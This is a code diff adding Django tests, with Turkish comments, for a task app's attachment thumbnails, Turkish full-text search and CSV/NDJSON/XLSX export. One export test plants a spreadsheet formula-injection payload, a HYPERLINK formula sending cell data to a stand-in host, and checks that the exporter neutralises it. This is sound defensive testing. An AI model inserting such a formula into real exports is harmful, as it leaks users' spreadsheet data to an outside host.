+        self.assertEqual(attachment['content_type'], 'image/jpeg')
+        # Orijinalden büyük boyut üretilmez
+        self.assertEqual(sorted(attachment['thumbnails'], key=int), ['16', '64'])
+        blob = AttachmentBlob.objects.get()
+        with default_storage.open(blob.thumbnails['64']) as thumbnail:
+            self.assertEqual(Image.open(thumbnail).size, (64, 32))
+
+        # Aynı görsel başka göreve: yeniden işlenmez, aynı küçük resimler kullanılır
+        other = self._attach(buffer.getvalue(), 'kopya.jpg', task=Task.objects.create(title='Diğer', creator=self.user))
+        self.assertEqual(set(other['thumbnails']), {'16', '64'})
+
+        response = self._call('get', None, '/', view=TaskAttachmentThumbnailView, pk=attachment['id'], size=16)
+        self.assertEqual(response['Content-Type'], 'image/webp')
+        self.assertIn('max-age', response['Cache-Control'])
+        response = self._call('get', None, '/', view=TaskAttachmentThumbnailView, pk=attachment['id'], size=1024)
+        self.assertEqual(response.status_code, 404)
+
+        with self.captureOnCommitCallbacks(execute=True):
+            TaskAttachment.objects.all().delete()
+        collect_garbage()
+        self.assertFalse(default_storage.exists(blob.thumbnails['16']))
+
+    def test_non_images_are_only_marked_processed(self):
+        attachment = self._attach(b'%PDF-1.4 ...', 'rapor.pdf')
+        self.assertEqual(attachment['thumbnails'], {})
+        self.assertIsNone(attachment['width'])
+        self.assertTrue(AttachmentBlob.objects.get().processed)
+
+
+class TaskSearchTests(TestCase):
+    """ Tam metin arama: Türkçe normalleştirme, alaka sırası, artımlı indeks ve görünürlük. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.other = User.objects.create_user('diger@nexus.local', 'parola')
+
+    def setUp(self):
+        cache.clear()
+        clear_local_cache()
+
+    def tearDown(self):
+        background.flush()
+
+    def _search(self, query, user=None, **params):
+        request = APIRequestFactory().get('/operations/tasks/search/', {'q': query, **params})
+        force_authenticate(request, user=user or self.user)
+        return TaskViewSet.as_view({'get': 'search'})(request)
+
+    def _titles(self, query, **params):
+        return [item['title'] for item in self._search(query, **params).data['results']]
+
+    def test_turkish_normalization(self):
+        self.assertEqual(normalize('İŞ GÜVENLİĞİ Işık'), 'is guvenligi isik')
+        Task.objects.create(title='İş Güvenliği Denetimi', creator=self.user)
+        self.assertEqual(self._titles('is guvenligi'), ['İş Güvenliği Denetimi'])
+        self.assertEqual(self._titles('GÜVENLİK'), [])
+        # Ekler önek eşleşmesiyle bulunur
+        self.assertEqual(self._titles('denet'), ['İş Güvenliği Denetimi'])
+
+    def test_ranks_titles_above_comments_and_follows_changes(self):
+        in_comment = Task.objects.create(title='Rapor', creator=self.user)
+        TaskComment.objects.create(task=in_comment, author=self.user, content='Jeneratör bakımı gecikti')
+        in_title = Task.objects.create(title='Jeneratör bakımı', creator=self.user)
+        self.assertEqual(self._titles('jenerator'), ['Jeneratör bakımı', 'Rapor'])
+
+        in_title.title = 'Kompresör bakımı'
+        in_title.save()
+        in_comment.comments.get().delete()
+        self.assertEqual(self._titles('jenerator'), [])
+        self.assertEqual(self._titles('kompresor bakim'), ['Kompresör bakımı'])
+
+    def test_respects_visibility_and_filters(self):
+        Task.objects.create(title='Pano kontrolü', creator=self.user, priority='HIGH')
+        Task.objects.create(title='Pano kontrolü (gizli)', creator=self.other)
+        self.assertEqual(self._titles('pano'), ['Pano kontrolü'])
+        self.assertEqual(self._titles('pano', priority='LOW'), [])
+
+    def test_paginates_without_counting(self):
+        for i in range(3):
+            Task.objects.create(title=f'Vana değişimi {i}', creator=self.user)
+        response = self._search('vana', limit=2)
+        self.assertEqual(len(response.data['results']), 2)
+        self.assertEqual(response.data['next_offset'], 2)
+        response = self._search('vana', limit=2, offset=2)
+        self.assertEqual(len(response.data['results']), 1)
+        self.assertIsNone(response.data['next_offset'])
+        self.assertEqual(self._search('  ?! ').status_code, 400)
+
+
+@override_settings(TASK_EXPORT={'CHUNK_SIZE': 2, 'BUFFER_SIZE': 64})
+class TaskExportTests(TestCase):
+    """ Dışa aktarım: biçimler, filtreler/görünürlük ve görev sayısından bağımsız sorgu sayısı. """
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.user = User.objects.create_user('sahip@nexus.local', 'parola')
+        cls.other = User.objects.create_user('diger@nexus.local', 'parola')
+        department = Department.objects.create(name='Bakım')
+        for i in range(5):
+            Task.objects.create(title=f'Görev {i}', creator=cls.user, assignee=cls.other,
+                                department=department, priority='HIGH' if i % 2 else 'LOW')
+        Task.objects.create(title='Gizli', creator=cls.other)
+
+    def setUp(self):
+        cache.clear()
+        clear_local_cache()
+
+    def tearDown(self):
+        background.flush()
+
+    def _export(self, file_format, factory=APIRequestFactory, **params):
+        request = factory().get(f'/operations/tasks/export/{file_format}/', params)
+        force_authenticate(request, user=self.user)
+        return TaskViewSet.as_view({'get': 'export'})(request, file_format=file_format)
+
+    def test_csv_is_streamed_in_chunks(self):
+        response = self._export('csv', priority='HIGH')
+        self.assertTrue(response.streaming)
+        self.assertIn('attachment;', response['Content-Disposition'])
+        chunks = list(response.streaming_content)
+        self.assertGreater(len(chunks), 1)
+        rows = list(csv.reader(io.StringIO(b''.join(chunks).decode('utf-8-sig'))))
+        self.assertEqual(rows[0][:3], ['ID', 'Başlık', 'Durum'])
+        self.assertEqual([row[1] for row in rows[1:]], ['Görev 1', 'Görev 3'])
+        self.assertEqual(rows[1][4:7], ['sahip@nexus.local', 'diger@nexus.local', 'Bakım'])
+
+    def test_ndjson_and_query_count(self):
+        response = self._export('ndjson')
+        with self.assertNumQueries(1):
+            lines = b''.join(response.streaming_content).decode().splitlines()
+        items = [json.loads(line) for line in lines]
+        self.assertEqual([item['title'] for item in items], [f'Görev {i}' for i in range(5)])
+        self.assertEqual(items[0]['department_name'], 'Bakım')
+        self.assertIsNone(items[0]['completed_at'])
+
+    def test_xlsx_is_a_valid_workbook(self):
+        content = b''.join(self._export('xlsx').streaming_content)
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            self.assertIsNone(archive.testzip())
+            sheet = ElementTree.fromstring(archive.read('xl/worksheets/sheet1.xml'))
+        namespace = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'
+        rows = sheet.findall(f'{namespace}sheetData/{namespace}row')
+        self.assertEqual(len(rows), 6)
+        self.assertEqual(rows[1].find(f'{namespace}c/{namespace}v').text, str(Task.objects.get(title='Görev 0').pk))
+        self.assertEqual(rows[1].findall(f'{namespace}c')[1].find(f'.//{namespace}t').text, 'Görev 0')
+
+    def test_formula_like_text_is_not_executable(self):
+        payload = '=HYPERLINK("http://kotu.example/?"&A1,"Tıkla")'
+        Task.objects.filter(title='Görev 0').update(title=payload)
+        Task.objects.filter(title='Görev 1').update(title='@SUM(1+1)')
+        Task.objects.filter(title='Görev 2').update(title='-2+3')
+
+        content = b''.join(self._export('csv').streaming_content).decode('utf-8-sig')
+        titles = [row[1] for row in csv.reader(io.StringIO(content))][1:]
+        self.assertEqual(titles, ["'" + payload, "'@SUM(1+1)", "'-2+3", 'Görev 3', 'Görev 4'])
+
+        content = b''.join(self._export('xlsx').streaming_content)
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            xml = archive.read('xl/worksheets/sheet1.xml')
+        namespace = '{http://schemas.openxmlformats.org/spreadsheetml/2006/main}'
+        sheet = ElementTree.fromstring(xml)
+        self.assertIsNone(sheet.find(f'.//{namespace}f'))
+        cell = sheet.findall(f'{namespace}sheetData/{namespace}row')[1].findall(f'{namespace}c')[1]
+        self.assertEqual(cell.get('t'), 'inlineStr')
+        # XLSX'te değer olduğu gibi görünür, sadece hesaplanmaz
+        self.assertEqual(cell.find(f'.//{namespace}t').text, payload)
+
+    def test_asgi_requests_get_an_async_stream(self):
+        response = self._export('csv', factory=AsyncRequestFactory)
+        self.assertTrue(response.is_async)
+
+        async def consume():
+            return b''.join([chunk async for chunk in response])
+        content = async_to_sync(consume)().decode('utf-8-sig')
+        self.assertEqual(len(content.splitlines()), 6)